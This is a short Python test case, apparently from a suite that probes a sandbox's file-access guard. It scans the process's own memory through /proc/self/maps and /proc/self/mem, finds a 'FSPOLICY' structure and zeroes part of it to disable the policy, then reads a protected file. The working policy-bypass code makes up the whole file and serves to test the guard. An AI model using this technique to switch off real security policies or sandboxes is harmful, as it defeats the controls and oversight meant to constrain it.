# class: switch_off
# rule: guard_integrity
# success: the policy is overwritten through /proc/self/mem, which ignores page protection
# proof: read
import re

from attack import FILE, attempt


@attempt
def steal():
    with open("/proc/self/maps") as maps:
        lines = maps.read().splitlines()
    with open("/proc/self/mem", "r+b", buffering=0) as memory:
        for line in lines:
            low, high = (int(part, 16) for part in line.split()[0].split("-"))
            if " r" not in line or high - low > 1 << 20 or re.search(r"\[v", line):
                continue
            memory.seek(low)
            if memory.read(8) == b"FSPOLICY":
                memory.seek(low + 40)
                memory.write(bytes(8))
    return open(FILE).read()
